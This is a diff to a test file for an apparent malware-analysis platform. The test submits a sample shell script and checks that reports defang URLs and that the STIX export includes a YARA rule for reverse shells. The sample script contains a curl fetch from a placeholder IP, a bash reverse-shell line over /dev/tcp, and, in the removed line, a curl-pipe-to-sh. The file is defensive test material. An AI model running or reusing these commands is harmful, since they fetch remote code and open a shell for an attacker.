@@ -5,6 +5,9 @@ import { type Platform, startPlatform, until } from "../platform/platform.ts";
 
 const root = join(import.meta.dirname!, "..", "..");
 
+/** A script that is never run: it has an address, and a rule that comes with Assay matches it. */
+const SCRIPT = "#!/bin/sh\ncurl http://198.51.100.7/a.sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n";
+
 /** Runs the verb as `deno task assay export` does. */
 async function exported(platform: Platform, args: readonly string[]) {
   const output = await new Deno.Command(Deno.execPath(), {
@@ -30,7 +33,7 @@ async function formsOf(platform: Platform, id: string): Promise<Record<string, s
 Deno.test("a report leaves in every form, the same bytes from two reports processes, also by the command line", async () => {
   await using platform = await startPlatform({ onTestStack: true });
   const body = new FormData();
-  body.append("file", new File(["#!/bin/sh\ncurl http://198.51.100.7/a.sh | sh\n"], "install.sh"));
+  body.append("file", new File([SCRIPT], "install.sh"));
   body.append("options", JSON.stringify({ priority: "interactive", tlp: "green" }));
   const { tasks: [task] } = await platform.ask<{ tasks: [{ id: string }] }>("/api/v1/submissions", {
     method: "POST",
@@ -42,6 +45,9 @@ Deno.test("a report leaves in every form, the same bytes from two reports proces
   });
   const first = await formsOf(platform, task.id);
   assert.match(first["text"]!, /hxxp\[:\]\/\/198\[\.\]51/);
+  const { objects } = JSON.parse(first["stix"]!) as { objects: Record<string, unknown>[] };
+  const rule = objects.find((one) => one["pattern_type"] === "yara");
+  assert.match(String(rule?.["pattern"]), /^rule shell_reverse_connection \{\n[^]*\}\n$/);
 
   const ready = await (await platform.request("/health/ready")).json();
   assert.equal(ready.checks.reports.status, "ready");
